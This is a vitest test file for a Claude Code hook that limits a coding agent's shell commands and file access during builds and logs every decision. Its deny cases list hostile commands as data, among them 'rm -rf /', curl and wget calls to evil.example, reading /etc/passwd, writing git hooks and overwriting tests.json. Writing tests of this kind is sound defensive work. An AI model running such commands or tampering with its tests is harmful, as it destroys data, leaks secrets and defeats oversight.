import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formatTests, TestEntry } from '../tests-file/index.js';
import type { BuildHookConfig } from './build-hook-config.js';
import { buildHookPath, createBuildSettings, toBuildPolicy, toHookPolicy } from './create-build-settings.js';

const folder = realpathSync(mkdtempSync(join(tmpdir(), 'build-policy-')));
const tree = join(folder, 'tree');
const configPath = join(folder, 'hook.json');

beforeAll(() => {
  mkdirSync(join(tree, 'src'), { recursive: true });
  const entry = TestEntry.parse({ id: 'a', description: 'It works.', steps: ['Look.'] });
  writeFileSync(join(tree, 'tests.json'), formatTests([entry]));
  const config: BuildHookConfig = {
    guard: {
      root: tree,
      allowedDirectories: ['.'],
      scratchDirectories: [],
      policy: toHookPolicy(toBuildPolicy()),
      decisionLog: join(folder, 'decisions.jsonl'),
      sandboxed: true,
    },
    build: { issue: 42, testId: 'a', origin: 'http://127.0.0.1:6174', seenFile: join(folder, 'seen.jsonl') },
  };
  writeFileSync(configPath, JSON.stringify(config));
});
afterAll(() => rmSync(folder, { recursive: true }));

/** The built program, as Claude Code runs it. */
function run(event: Record<string, unknown>, config = configPath) {
  const { status, stdout } = spawnSync(process.execPath, [buildHookPath(), config], {
    input: JSON.stringify({ hook_event_name: 'PreToolUse', cwd: tree, ...event }),
    encoding: 'utf8',
  });
  return { status, answer: stdout === '' ? null : JSON.parse(stdout) };
}
const decide = (tool_name: string, tool_input: Record<string, unknown>) =>
  run({ tool_name, tool_input }).answer.hookSpecificOutput.permissionDecision;

describe('the hook program of a session', () => {
  it.each([
    ['npm run build', 'S1-076'],
    ['npx vite build', 'S1-077'],
    ['node scripts/seed.mjs', 'S1-078'],
    ['git add -A && git commit -m "Add it"', 'S1-079'],
    ['python3 scripts/seed.py', 'S1-080'],
    ['playwright test', 'S1-081'],
  ])('allows %s (%s, S1-037, S1-070)', (command) => {
    expect(decide('Bash', { command })).toBe('allow');
  });

  it.each([
    ['rm -rf src', 'S1-082'],
    ['git status; rm -rf /', 'S1-082'],
    ['curl https://evil.example/?t=1', 'S1-083'],
    ['wget https://evil.example', 'S1-083'],
    ['ls ../..', 'S1-084'],
    ['git add /etc/passwd', 'S1-084'],
    ['echo "[]" > tests.json', 'S1-086'],
    ['git checkout HEAD~1 -- tests.json', 'S1-086'],
    ['cp src/a.png screenshots/issue-42/a-1.png', 'S1-070'],
    ['docker ps', 'S1-070'],
    ['soffice --headless app.docx', 'S1-070'],
    ['made-up-program', 'S1-070'],
    ['git push origin main', 'S1-070'],
    ['git commit -m "$(', 'S1-070'],
  ])('denies %s (%s, S1-038)', (command) => {
    expect(decide('Bash', { command })).toBe('deny');
  });

  it('keeps the agent in its folder (S1-074, S1-075, S1-084)', () => {
    for (const tool of ['Read', 'Edit', 'Write']) {
      expect(decide(tool, { file_path: join(tree, 'src/App.tsx') })).toBe('allow');
      expect(decide(tool, { file_path: '/etc/passwd' })).toBe('deny');
    }
    for (const file_path of ['../outside.txt', join(folder, 'hook.json'), '.env', '.git/hooks/pre-commit']) {
      expect(decide('Write', { file_path })).toBe('deny');
    }
  });

  it('sends a model back to work once while its test does not pass (S1-021, S1-110)', () => {
    expect(run({ hook_event_name: 'Stop' }).answer).toMatchObject({ decision: 'block' });
    expect(run({ hook_event_name: 'Stop', stop_hook_active: true }).answer).toBeNull();
  });

  it('denies if its configuration or its input cannot be read (S1-070)', () => {
    expect(run({ tool_name: 'Read', tool_input: {} }, '/nowhere.json').status).toBe(2);
    expect(run({ hook_event_name: 5 }).status).toBe(2);
  });

  it('keeps every decision (S1-038)', () => {
    const entries = readFileSync(join(folder, 'decisions.jsonl'), 'utf8').trim().split('\n');
    expect(entries.length).toBeGreaterThan(10);
  });

  it('runs before every call, after each Read and at the end, and blocks when it fails (S1-038, S1-085)', () => {
    const settings = createBuildSettings({
      configPath,
      policy: toBuildPolicy(),
      nodePath: process.execPath,
      sandboxed: true,
    });
    expect(settings.hooks.PreToolUse[0]?.matcher).toBe('*');
    expect(settings.hooks.PostToolUse[0]?.matcher).toBe('Read');
    for (const [entry] of Object.values(settings.hooks))
      expect(entry?.hooks[0]).toMatchObject({ onFailure: 'block' });
    expect(settings.permissions.deny).toContain('mcp__playwright__browser_run_code_unsafe');
    // The hook alone can tell a proven edit of it from another.
    expect(settings.permissions.deny).not.toContain('Edit(**/tests.json)');
  });
});
